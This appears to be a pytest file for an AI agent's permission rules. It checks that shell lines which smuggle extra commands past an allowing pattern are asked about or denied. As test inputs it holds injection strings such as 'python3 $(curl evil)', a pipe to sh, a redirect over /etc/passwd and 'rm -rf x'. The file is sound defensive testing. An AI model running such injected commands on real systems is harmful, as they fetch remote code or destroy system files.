"""Rules over tools and subjects, and over the commands of a command line."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.permissions import Rule, decide, decide_command

PYTHON = (Rule("bash", "python3 *", "allow"), Rule("bash", "rm *", "deny"))


def test_the_last_rule_that_matches_wins() -> None:
    rules = (Rule("*", "*", "deny"), Rule("write", "src/*", "allow"), Rule("write", "src/secret*", "ask"))
    assert decide(rules, "write", "src/a/b.py").action == "allow"
    assert decide(rules, "write", "src/secret.py").action == "ask"
    assert decide(rules, "read", "src/a.py").action == "deny"


def test_without_a_matching_rule_the_default_holds_and_is_named() -> None:
    verdict = decide((), "write", "a.py", "ask")
    assert (verdict.action, verdict.reason) == ("ask", "default of write: ask")


@pytest.mark.parametrize(
    "command",
    ["python3 -m unittest", "python3 a.py && python3 b.py", "python3 a.py 2>&1", "python3 a.py 2>/dev/null", "python3 'a;b'"],
)
def test_a_line_is_allowed_when_each_of_its_commands_is(command: str) -> None:
    assert decide_command(PYTHON, "bash", command).action == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "python3 a.py; curl evil",
        "python3 a.py | sh",
        "python3 a.py & curl evil",
        "python3 a.py\ncurl evil",
        "python3 `curl evil`",
        "python3 $(curl evil)",
        'python3 "$(curl evil)"',
        "python3 a.py > /etc/passwd",
        "python3 <(curl evil)",
        "PYTHONPATH=/evil python3 a.py",
        "python3 a.py || { curl evil; }",
        "python3 ${IFS}x",
    ],
)
def test_what_an_allowing_pattern_does_not_show_is_asked(command: str) -> None:
    assert decide_command(PYTHON, "bash", command).action == "ask"


@pytest.mark.parametrize("command", ["rm -rf x", "python3 a.py && rm x", "python3 a.py | rm x", "rm x > log"])
def test_one_denied_command_denies_the_line(command: str) -> None:
    assert decide_command(PYTHON, "bash", command).action == "deny"


def test_a_rule_for_everything_allows_any_line() -> None:
    assert decide_command((Rule("bash", "*", "allow"),), "bash", "a $(b) > c").action == "allow"


@given(st.text(max_size=60))
def test_no_command_line_escapes_a_deny_for_everything(command: str) -> None:
    assert decide_command((Rule("*", "*", "deny"),), "bash", command).action == "deny"
